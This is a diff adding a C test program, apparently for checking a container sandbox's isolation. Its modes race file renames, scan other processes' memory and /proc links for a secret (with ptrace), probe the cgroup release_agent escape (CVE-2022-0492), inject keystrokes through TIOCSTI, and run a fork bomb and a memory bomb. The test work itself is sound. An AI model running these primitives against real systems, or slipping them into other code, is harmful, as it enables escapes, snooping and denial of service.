@@ -1,0 +1,190 @@
+// The hostile program of the tests, static, so that it runs in any root file system: `attacker MODE ...`. What it gets hold
+// of it writes to standard output, a line each; nothing else.
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mount.h>
+#include <sys/mman.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+// swap A B [C D ...]: exchanges the names of each pair, as quickly as it can, until it is killed.
+static int swap(int count, char **names) {
+  for (;;)
+    for (int i = 0; i + 1 < count; i += 2) renameat2(AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE);
+}
+
+// What descriptors of other processes, their roots, working directories, programs and memory have of `secret`, or of files
+// that are not this container's: anything whose target is a path that does not exist here is the host's.
+static void foreign(const char *what, const char *path) {
+  char target[4096];
+  ssize_t size = readlink(path, target, sizeof target - 1);
+  if (size <= 0) return;
+  target[size] = 0;
+  struct stat facts;
+  if (strncmp(target, "pipe:", 5) == 0 || strncmp(target, "socket:", 7) == 0 || strncmp(target, "anon_inode:", 11) == 0)
+    return;
+  if (target[0] == '/' && (stat(target, &facts) == 0 || strncmp(target, "/dev/", 5) == 0 || strncmp(target, "/proc/", 6) == 0)) {
+    if (strcmp(what, "exe")) return;
+    int file = open(path, O_WRONLY | O_CLOEXEC);
+    // The container's own programs may be written to by its root; what runs them may not.
+    if (file >= 0) {
+      struct stat own;
+      if (fstat(file, &facts) == 0 && stat(target, &own) == 0 && facts.st_ino != own.st_ino) printf("writable %s\n", target);
+      close(file);
+    }
+    return;
+  }
+  int file = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+  if (file >= 0) {
+    // The launcher's executable is the same for all and sealed: to read it is no secret, to write it would be.
+    int again = open(path, O_WRONLY | O_CLOEXEC);
+    int isLauncher = strncmp(target, "/memfd:", 7) == 0;
+    if (!isLauncher || again >= 0) printf("%s %s -> %s%s\n", what, path, target, again >= 0 ? " writable" : "");
+    if (again >= 0) close(again);
+    close(file);
+  }
+}
+
+static void scanMemory(const char *directory, const char *secret) {
+  char path[300], line[512];
+  snprintf(path, sizeof path, "%s/maps", directory);
+  FILE *maps = fopen(path, "re");
+  if (!maps) return;
+  snprintf(path, sizeof path, "%s/mem", directory);
+  int memory = open(path, O_RDONLY | O_CLOEXEC);
+  static char buffer[1 << 20];
+  while (memory >= 0 && fgets(line, sizeof line, maps)) {
+    unsigned long from, to;
+    char mode[8];
+    if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[0] != 'r' || strstr(line, "[v")) continue;
+    if (to - from > sizeof buffer) to = from + sizeof buffer;
+    ssize_t size = pread(memory, buffer, to - from, (off_t)from);
+    if (size > 0 && memmem(buffer, (size_t)size, secret, strlen(secret))) printf("secret in %s\n", line);
+  }
+  if (memory >= 0) close(memory);
+  fclose(maps);
+}
+
+// spy SECRET: looks at every other process, again and again.
+static int spy(const char *secret) {
+  char name[300], path[600];
+  for (;;) {
+    DIR *processes = opendir("/proc");
+    if (!processes) return 1;
+    for (struct dirent *entry; (entry = readdir(processes));) {
+      int pid = atoi(entry->d_name);
+      if (pid <= 1 || pid == getpid()) continue;
+      snprintf(name, sizeof name, "/proc/%d", pid);
+      static const char *links[] = {"exe", "cwd", "root"};
+      for (int i = 0; i < 3; i++) {
+        snprintf(path, sizeof path, "%s/%s", name, links[i]);
+        foreign(links[i], path);
+      }
+      for (int fd = 0; fd < 24; fd++) {
+        snprintf(path, sizeof path, "%s/fd/%d", name, fd);
+        foreign("fd", path);
+      }
+      scanMemory(name, secret);
+      if (syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0) == 0) {
+        scanMemory(name, secret);
+        syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
+      }
+    }
+    closedir(processes);
+    fflush(stdout);
+    while (waitpid(-1, NULL, WNOHANG) > 0) continue;
+  }
+}
+
+// descriptors: every open one but the standard streams.
+static int descriptors(void) {
+  for (int fd = 3; fd < 1100; fd++)
+    if (fcntl(fd, F_GETFD) >= 0) printf("open %d\n", fd);
+  return 0;
+}
+
+// cgroup: ways to release_agent (CVE-2022-0492). Nothing is ever written.
+static int cgroup(void) {
+  static const char *controllers[] = {"memory", "pids", "devices", "rdma", "freezer", "cpu"};
+  mkdir("/cgroup-attack", 0700);
+  for (int tries = 0; tries < 2; tries++) {
+    for (unsigned i = 0; i < sizeof controllers / sizeof *controllers; i++) {
+      if (mount("cgroup", "/cgroup-attack", "cgroup", 0, controllers[i]) != 0) continue;
+      printf("mounted %s\n", controllers[i]);
+      if (access("/cgroup-attack/cgroup.procs", W_OK) == 0) printf("writable %s\n", controllers[i]);
+      if (open("/cgroup-attack/release_agent", O_WRONLY) >= 0) printf("release_agent %s\n", controllers[i]);
+      umount("/cgroup-attack");
+    }
+    if (mount("cgroup2", "/cgroup-attack", "cgroup2", 0, "") == 0) {
+      printf("mounted cgroup2\n");
+      umount("/cgroup-attack");
+    }
+    if (tries == 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) return 0;
+    if (tries == 0) printf("unshared\n");
+  }
+  return 0;
+}
+
+// inject: a character into the terminal of whoever reads it next (TIOCSTI), and a selection (TIOCLINUX).
+static int inject(void) {
+  char key = 'x', paste = 3;
+  for (int fd = 0; fd < 3; fd++) {
+    if (ioctl(fd, TIOCSTI, &key) == 0) printf("TIOCSTI\n");
+    if (ioctl(fd, TIOCSTI | (1ul << 40), &key) == 0) printf("TIOCSTI with high bits\n");
+    if (ioctl(fd, TIOCLINUX, &paste) == 0) printf("TIOCLINUX\n");
+  }
+  int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
+  if (terminal >= 0 && ioctl(terminal, TIOCSTI, &key) == 0) printf("TIOCSTI on /dev/tty\n");
+  return 0;
+}
+
+static int forkBomb(void) {
+  signal(SIGCHLD, SIG_IGN);
+  for (;;)
+    if (fork() < 0) usleep(1000);
+}
+
+static int memoryBomb(void) {
+  for (size_t size = 1 << 20;;) {
+    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (memory == MAP_FAILED) return 3;
+    for (size_t at = 0; at < size; at += 4096) memory[at] = 1;
+  }
+}
+
+// see NAME ...: which of these files can be read, and what they say.
+static int see(int count, char **names) {
+  for (int i = 0; i < count; i++) {
+    char text[64] = {0};
+    int file = open(names[i], O_RDONLY | O_CLOEXEC);
+    if (file >= 0 && read(file, text, sizeof text - 1) > 0) printf("%s: %s\n", names[i], text);
+    if (file >= 0) close(file);
+  }
+  return 0;
+}
+
+int main(int argc, char **argv) {
+  if (argc < 2) return 2;
+  const char *mode = argv[1];
+  if (!strcmp(mode, "swap")) return swap(argc - 2, argv + 2);
+  if (!strcmp(mode, "spy")) return spy(argv[2]);
+  if (!strcmp(mode, "descriptors")) return descriptors();
+  if (!strcmp(mode, "cgroup")) return cgroup();
+  if (!strcmp(mode, "inject")) return inject();
+  if (!strcmp(mode, "fork-bomb")) return forkBomb();
+  if (!strcmp(mode, "memory-bomb")) return memoryBomb();
+  if (!strcmp(mode, "see")) return see(argc - 2, argv + 2);
+  if (!strcmp(mode, "sleep")) return pause();
+  return 2;
+}
